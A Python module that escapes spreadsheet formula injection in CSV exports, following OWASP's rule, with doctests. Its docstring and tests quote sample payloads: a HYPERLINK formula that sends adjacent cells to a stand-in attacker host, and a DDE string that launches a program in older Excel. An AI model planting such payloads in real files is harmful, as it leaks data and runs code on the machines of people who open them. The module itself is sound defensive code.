r"""CSV cells that a spreadsheet cannot run as a formula (CSV or formula injection).

Excel, LibreOffice Calc and Google Sheets read a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula. An export that copies text people typed
(names, team names, organization names) into a CSV lets whoever chose the
text run it on the computer of whoever opens the file:
``=HYPERLINK("https://evil.example/?"&A2,"Open")`` sends the cells beside it
away when clicked, and ``-2+3+cmd|' /C calc'!A0`` starts a program through
DDE in older Excel.

The rule is OWASP's ("CSV Injection",
https://owasp.org/www-community/attacks/CSV_Injection): a text cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab (0x09) or a carriage return
(0x0D) gets a single quote in front, which spreadsheets read as "this cell is
text". Two variants are caught as well: the same characters after leading
spaces (LibreOffice can trim spaces on import and then evaluate) and their
full-width forms (``＝ ＋ － ＠``), which some editions of Excel also take as
the start of a formula.

Numbers stay numbers: an ``int`` or ``float`` (a negative E-I index, say) and
a text that is nothing but a decimal number (``"-0.25"``, ``"+44"``) cannot
hold a formula, so they are written unchanged and the sheet still adds them up.

>>> safe_cell("=1+1")
"'=1+1"
>>> safe_cell("Ada Lovelace"), safe_cell(-0.25), safe_cell("-0.25")
('Ada Lovelace', -0.25, '-0.25')
>>> safe_row(["@SUM(A1:A9)", 3, None])
["'@SUM(A1:A9)", 3, None]
"""

from __future__ import annotations

import csv
import numbers
import re
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

import pandas as pd

if TYPE_CHECKING:
    from _typeshed import SupportsWrite

__all__ = [
    "FORMULA_TRIGGERS",
    "SafeCsvWriter",
    "csv_writer",
    "safe_cell",
    "safe_frame",
    "safe_row",
]

#: First characters that make a spreadsheet read a cell as a formula (or, for
#: tab and carriage return, that some importers drop before reading the rest).
FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
# Characters a spreadsheet may skip before it looks at the first one.
_LEADING_BLANKS = " \t\r\n\u00a0\u3000"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _starts_a_formula(text: str) -> bool:
    first, first_after_blanks = text[:1], text.lstrip(_LEADING_BLANKS)[:1]
    return first in FORMULA_TRIGGERS or first_after_blanks in FORMULA_TRIGGERS


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell that a spreadsheet shows as it is.

    ``None`` and numbers are returned unchanged; anything else is turned into
    text (as :mod:`csv` would) and, if it could start a formula and is not a
    plain number, gets a single quote in front.
    """
    if value is None or isinstance(value, numbers.Number):
        return value
    text = value if isinstance(value, str) else str(value)
    if _starts_a_formula(text) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_row(row: Iterable[Any]) -> list[Any]:
    """Every cell of ``row`` through :func:`safe_cell`."""
    return [safe_cell(value) for value in row]


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are safe.

    Numeric, boolean and date columns are left as they are; every other
    column (names, teams, lists of people) goes cell by cell through
    :func:`safe_cell`, missing values staying missing. The index is kept,
    so pass ``index=False`` to ``to_csv`` as usual.

    >>> frame = pd.DataFrame({"label": ["=cmd", "Bo"], "ei": [-0.5, 0.25]})
    >>> safe_frame(frame).to_dict("list")
    {'label': ["'=cmd", 'Bo'], 'ei': [-0.5, 0.25]}
    """
    columns: list[pd.Series] = []
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if not (
            pd.api.types.is_numeric_dtype(column)
            or pd.api.types.is_bool_dtype(column)
            or pd.api.types.is_datetime64_any_dtype(column)
            or pd.api.types.is_timedelta64_dtype(column)
        ):
            column = column.astype(object).map(safe_cell, na_action="ignore")
        columns.append(column.rename(position))
    safe = pd.concat(columns, axis=1) if columns else frame.copy()
    safe.columns = pd.Index([safe_cell(name) for name in frame.columns])
    safe.index = frame.index
    return safe


class SafeCsvWriter:
    """A :func:`csv.writer` that passes every row through :func:`safe_row`."""

    def __init__(self, stream: SupportsWrite[str], **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: SupportsWrite[str], **options: Any) -> SafeCsvWriter:
    """Like :func:`csv.writer` (same ``options``), with every cell made safe.

    >>> import io
    >>> out = io.StringIO()
    >>> csv_writer(out).writerows([["name", "ties"], ["-2+3+cmd|' /C calc'!A0", -1]])
    >>> out.getvalue().splitlines()
    ['name,ties', "'-2+3+cmd|' /C calc'!A0,-1"]
    """
    return SafeCsvWriter(stream, **options)
